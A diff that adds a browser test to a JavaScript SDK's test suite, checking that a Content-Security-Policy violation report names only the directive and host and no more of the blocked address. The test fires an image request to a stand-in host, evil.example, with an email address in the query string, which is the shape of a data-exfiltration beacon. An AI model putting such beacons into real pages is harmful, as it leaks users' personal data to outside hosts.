@@ -380,6 +380,24 @@ describe('the real SDK, set up by the portal', () => {
       expect(everything, canary).not.toContain(canary);
   });
 
+  it('names the directive and the host of what the page’s policy blocked, and no more of the address', async () => {
+    const { events, calls } = await watch(async (page) => {
+      await page.evaluate(() => {
+        const policy = document.createElement('meta');
+        policy.httpEquiv = 'Content-Security-Policy';
+        policy.content = "img-src 'self'";
+        document.head.append(policy);
+        new Image().src = 'https://evil.example:8443/8f3c0e1a-77aa?e=avery.stone@example.com';
+      });
+      await handedOver(page, (event) => event.type === 'error' && event.error.csp !== undefined);
+    });
+    const errors = events.filter(({ type }) => type === 'error');
+    expect(errors.map((event) => [of(event, 'error', 'type'), of(event, 'error', 'message')])).toEqual([
+      ['img-src', 'img-src: evil.example:8443'],
+    ]);
+    expect(calls.map(({ body }) => body).join('\n')).not.toMatch(/avery|8f3c0e1a/);
+  });
+
   // Proves.
   it('reports 3 clicks within a second as a rage click, and truncates names and data URLs', async () => {
     const { events, handed } = await watch(async (page) => {
